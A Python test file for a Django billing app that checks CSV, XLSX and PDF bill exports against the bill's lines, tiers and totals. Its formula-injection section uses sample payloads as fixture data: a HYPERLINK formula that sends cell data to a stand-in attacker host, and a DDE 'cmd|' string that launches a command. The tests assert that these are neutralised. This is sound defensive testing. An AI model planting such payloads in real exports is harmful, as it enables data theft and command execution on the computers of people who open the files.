"""A month's bill as CSV, XLSX and PDF: the same lines, tiers and total as
``bills.current_bill``, amounts as the bill writes them."""

from __future__ import annotations

import base64
import codecs
import csv
import io
import re
import zlib
from datetime import datetime
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from billing import bills, purchases
from billing.export_files import csv_cell
from billing.exports import kind_label
from billing.pricing import SHANGHAI
from cameras import roles
from tests.billing.test_billing_pages import MARCH, enterprise_baidu, import_calls, personal_baidu

pytestmark = pytest.mark.django_db


@pytest.fixture
def finance(make_user):
    return make_user(roles.FINANCE)


@pytest.fixture
def browser(finance) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(finance)
    return client


@pytest.fixture
def march_account():
    """A personal Baidu account (10,000 free calls per API) with 12,001 body_attr calls in
    March 2025: 2,001 pay-as-you-go calls, 4.002 CNY exactly, 4.00 on the line."""
    account = personal_baidu("百度 二厂")
    import_calls(account, "body_attr", 12_001)
    return account


def export(browser, account, fmt: str, month: str = MARCH):
    response = browser.get(f"{reverse(f'billing:export_{fmt}', args=[account.pk])}?month={month}")
    assert response.status_code == 200
    return response


def expected_rows(view: bills.BillView) -> list[tuple[str, ...]]:
    """The bill's lines and tier rows as (row, api, kind, calls, amount, from, to, tier calls,
    unit price, tier amount) strings."""
    rows = []
    for line in view.lines:
        label = kind_label(line["kind"])
        rows.append(("line", line["api"], label, str(line["calls"]), line["amount"]))
        for tier in line["tiers"]:
            rows.append(
                (
                    "tier",
                    line["api"],
                    label,
                    "",
                    "",
                    str(tier["from"]),
                    "" if tier["to"] is None else str(tier["to"]),
                    str(tier["calls"]),
                    tier["unit_price"],
                    tier["amount"],
                )
            )
    return rows


# --- CSV ----------------------------------------------------------------------------------------


def read_csv(content: bytes) -> tuple[list[list[str]], list[dict[str, str]]]:
    """The CSV's heading block and its table rows as dicts by column heading."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    start = next(index for index, row in enumerate(rows) if row and row[0] == "Row")
    header = rows[start]
    return rows[:start], [dict(zip(header, row, strict=True)) for row in rows[start + 1 :]]


def as_tuple(row: dict[str, str]) -> tuple[str, ...]:
    values = (row["Row"], row["API"], row["Kind"], row["Calls"], row["Amount (CNY)"])
    if row["Row"] != "tier":
        return values
    return values + (
        row["Tier from (calls)"],
        row["Tier to (calls)"],
        row["Tier calls"],
        row["Unit price (CNY per 1,000 calls)"],
        row["Tier amount (CNY)"],
    )


def test_the_csv_export_read_back_equals_the_bill_lines_tiers_and_total(browser, march_account):
    # given the March bill of an account with pay-as-you-go calls
    view = bills.current_bill(march_account, 2025, 3)
    # when finance exports it as CSV
    response = export(browser, march_account, "csv")
    # then it is UTF-8 with a byte order mark, and an attachment named after the bill
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(codecs.BOM_UTF8)
    assert "attachment" in response["Content-Disposition"]
    assert f"bill-{march_account.pk}-2025-03.csv" in response["Content-Disposition"]
    # and read back, its rows are the bill's lines and tiers, amounts as the bill writes them
    head, rows = read_csv(response.content)
    assert [as_tuple(row) for row in rows if row["Row"] in ("line", "tier")] == expected_rows(view)
    # the exact tier amount (4.002) beside the line rounded once (4.00)
    tier = next(row for row in rows if row["Row"] == "tier")
    assert (tier["Tier amount (CNY)"], tier["Unit price (CNY per 1,000 calls)"]) == ("4.002", "2.0")
    # and the last row is the bill's total
    assert rows[-1]["Row"] == "total"
    assert rows[-1]["Amount (CNY)"] == view.to_dict()["total"] == "4.00"
    # and the heading block names the account (in Chinese), the month and the status
    assert ["Account", "百度 二厂"] in head
    assert ["Month", "2025-03"] in head
    assert ["Status", "draft"] in head


def test_the_csv_export_of_a_final_bill_has_its_adjustments_and_adjusted_total(
    browser, finance, march_account
):
    # given March finalized and credited 1.50
    bills.finalize(march_account, 2025, 3, finance)
    final = bills.current_bill(march_account, 2025, 3)
    bills.add_adjustment(final, "body_attr", "-1.50", "Outage credit", finance)
    view = bills.current_bill(march_account, 2025, 3)
    # when it is exported as CSV
    _head, rows = read_csv(export(browser, march_account, "csv").content)
    # then the lines total, the adjustment and the adjusted total follow the lines
    tail = [(row["Row"], row["API"], row["Description"], row["Amount (CNY)"]) for row in rows[-3:]]
    assert tail == [
        ("lines total", "", "", "4.00"),
        ("adjustment", "body_attr", "Outage credit", "-1.50"),
        ("total", "", "", "2.50"),
    ]
    assert view.to_dict()["total"] == "2.50"


def test_the_csv_export_writes_large_amounts_as_the_bill_does_without_separators(
    browser, march_account
):
    # given a 5-QPS purchase for 10 days in March (2,500.00) beside the usage
    purchases.buy_qps(
        march_account, "body_num", 5, 0, 10, datetime(2025, 3, 6, 9, 0, tzinfo=SHANGHAI)
    )
    view = bills.current_bill(march_account, 2025, 3)
    # when the bill is exported as CSV
    _head, rows = read_csv(export(browser, march_account, "csv").content)
    # then the purchase and the total are the bill's strings, e.g. 2500.00, not 2,500.00
    (order,) = [row for row in rows if row["Kind"] == "QPS purchase"]
    assert order["Amount (CNY)"] == view.lines_of("qps_order")[0]["amount"] == "2500.00"
    assert rows[-1]["Amount (CNY)"] == view.to_dict()["total"] == "2504.00"


def test_the_csv_export_of_the_80000_call_enterprise_scenario_bills_60_00(browser):
    # given an enterprise account with 80,000 body_attr calls in March (50,000 free)
    account = enterprise_baidu()
    import_calls(account, "body_attr", 80_000)
    # when the bill is exported as CSV
    _head, rows = read_csv(export(browser, account, "csv").content)
    # then 30,000 calls are pay-as-you-go for 60.00, all in the first tier, and that is the total
    lines = [as_tuple(row) for row in rows if row["Row"] in ("line", "tier")]
    assert lines == [
        ("line", "body_attr", "free quota", "50000", "0.00"),
        ("line", "body_attr", "pay-as-you-go", "30000", "60.00"),
        ("tier", "body_attr", "pay-as-you-go", "", "", "0", "50000", "30000", "2.0", "60.00"),
    ]
    assert rows[-1]["Amount (CNY)"] == "60.00"


# --- XLSX ---------------------------------------------------------------------------------------


def test_the_xlsx_export_holds_the_bill_as_numbers_with_number_formats(browser, march_account):
    # given the March bill
    view = bills.current_bill(march_account, 2025, 3)
    # when it is exported as XLSX and opened
    response = export(browser, march_account, "xlsx")
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    start = next(index for index, row in enumerate(rows) if row[0].value == "Row")
    header = [cell.value for cell in rows[start]]
    table = [
        {name: cell for name, cell in zip(header, row, strict=True)} for row in rows[start + 1 :]
    ]
    # then the lines are the bill's: calls as whole numbers, amounts as numbers formatted with
    # two decimals, equal to the bill's amounts
    lines = [row for row in table if row["Row"].value == "line"]
    assert [
        (
            row["API"].value,
            row["Kind"].value,
            row["Calls"].value,
            Decimal(str(row["Amount (CNY)"].value)),
        )
        for row in lines
    ] == [
        (line["api"], kind_label(line["kind"]), line["calls"], Decimal(line["amount"]))
        for line in view.lines
    ]
    assert {row["Amount (CNY)"].number_format for row in lines} == {"#,##0.00"}
    assert {row["Calls"].number_format for row in lines} == {"#,##0"}
    # and the tier keeps its exact amount with a format that shows it
    (tier,) = [row for row in table if row["Row"].value == "tier"]
    assert Decimal(str(tier["Tier amount (CNY)"].value)) == Decimal("4.002")
    assert tier["Tier amount (CNY)"].number_format.startswith("#,##0.00")
    assert (tier["Tier from (calls)"].value, tier["Tier to (calls)"].value) == (0, 50_000)
    # and the total is the bill's
    total = table[-1]
    assert total["Row"].value == "total"
    assert Decimal(str(total["Amount (CNY)"].value)) == view.total == Decimal("4.00")
    assert total["Amount (CNY)"].number_format == "#,##0.00"


# --- PDF ----------------------------------------------------------------------------------------


ESCAPES = {b"n": b"\n", b"r": b"\r", b"t": b"\t", b"b": b"\b", b"f": b"\f"}


def _unescape(match: re.Match) -> bytes:
    escaped = match.group(1)
    if escaped[:1].isdigit():
        return bytes([int(escaped, 8)])
    return ESCAPES.get(escaped, escaped)


def pdf_page_text(content: bytes) -> bytes:
    """The decoded content streams of a PDF written by reportlab (ASCII85 + Flate), with the
    escapes of its string literals undone."""
    decoded = []
    for match in re.finditer(rb"stream\r?\n(.*?)endstream", content, re.S):
        raw = match.group(1).strip()
        try:
            decoded.append(zlib.decompress(base64.a85decode(raw, adobe=True)))
        except ValueError:
            continue
    return re.sub(rb"\\([0-7]{1,3}|.)", _unescape, b"\n".join(decoded), flags=re.S)


def test_the_pdf_export_is_an_a4_document_with_the_lines_tiers_and_total(browser, march_account):
    # given the March bill
    view = bills.current_bill(march_account, 2025, 3)
    # when it is exported as PDF
    response = export(browser, march_account, "pdf")
    content = response.content
    # then it is a whole PDF file of A4 pages
    assert response["Content-Type"] == "application/pdf"
    assert content.startswith(b"%PDF-") and content.rstrip().endswith(b"%%EOF")
    assert len(content) > 2_000
    assert b"/MediaBox [ 0 0 595.2756 841.8898 ]" in content
    # with the CJK font for Chinese (the account name) and Helvetica for the rest
    assert b"/STSong-Light" in content
    assert b"/Helvetica" in content
    # and its pages show the line amounts, the tier and the total
    text = pdf_page_text(content)
    assert b"(Amount (CNY)) Tj" in text
    assert b"(total) Tj" in text
    for line in view.lines:
        assert f"({Decimal(line['amount']):,.2f})".encode() in text
    assert b"(0 to 50,000)" in text
    assert b"(4.002)" in text
    assert f"({view.total:,.2f})".encode() in text
    # and the account name in the CID font, as UCS-2
    assert b"(" + "百度".encode("utf-16-be") + b") Tj" in text


def test_an_export_of_a_malformed_month_is_refused(browser, march_account):
    # when an export is asked for a month that is not YYYY-MM
    response = browser.get(f"{reverse('billing:export_csv', args=[march_account.pk])}?month=2025-3")
    # then it is refused with the reason
    assert response.status_code == 400
    assert b"YYYY-MM" in response.content


# --- formula injection -------------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'


@pytest.fixture
def formula_account(finance):
    """A bill whose account name and adjustment notes are text a spreadsheet would run."""
    account = personal_baidu(FORMULA_NAME)
    import_calls(account, "body_attr", 12_001)
    bills.finalize(account, 2025, 3, finance)
    final = bills.current_bill(account, 2025, 3)
    bills.add_adjustment(final, "body_attr", "-1.50", "@SUM(1+1)*cmd|' /C calc'!A0", finance)
    bills.add_adjustment(final, "body_attr", "0.50", "+1+1", finance)
    bills.add_adjustment(final, "body_attr", "0.25", "-2+3", finance)
    bills.add_adjustment(final, "body_attr", "0.25", "=1+1", finance)
    return account


def test_the_csv_export_neutralizes_text_that_a_spreadsheet_would_read_as_a_formula(
    browser, formula_account
):
    # when a bill whose names and notes start with = + - @ or a tab is exported as CSV
    head, rows = read_csv(export(browser, formula_account, "csv").content)
    # then every such text is written with a leading apostrophe (OWASP), so it is text
    assert ["Account", "'" + FORMULA_NAME] in head
    notes = [row["Description"] for row in rows if row["Row"] == "adjustment"]
    assert notes == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+1", "'-2+3", "'=1+1"]
    # and the title naming the account is neutralized too, while amounts stay numbers
    assert not any(cell.startswith(("=", "+", "@")) for row in head for cell in row)
    amounts = [row["Amount (CNY)"] for row in rows if row["Row"] == "adjustment"]
    assert amounts == ["-1.50", "0.50", "0.25", "0.25"]


def test_a_csv_cell_led_by_a_tab_or_carriage_return_is_neutralized_too():
    # (notes are stripped on save, so these leads reach the writer only through names)
    assert [csv_cell(v) for v in ("\tx", "\r=1", "plain", "-3.25", 7, None)] == [
        "'\tx",
        "'\r=1",
        "plain",
        "-3.25",
        7,
        "",
    ]


def test_the_xlsx_export_writes_chosen_text_as_text_never_as_a_formula(browser, formula_account):
    # when the same bill is exported as XLSX and opened
    content = export(browser, formula_account, "xlsx").content
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    # then no cell is a formula, and the names and notes read back as the text they are
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = {cell.value for cell in cells}
    assert FORMULA_NAME in values
    assert {"@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "=1+1"} <= values
    # and the workbook's XML holds no formula element at all
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
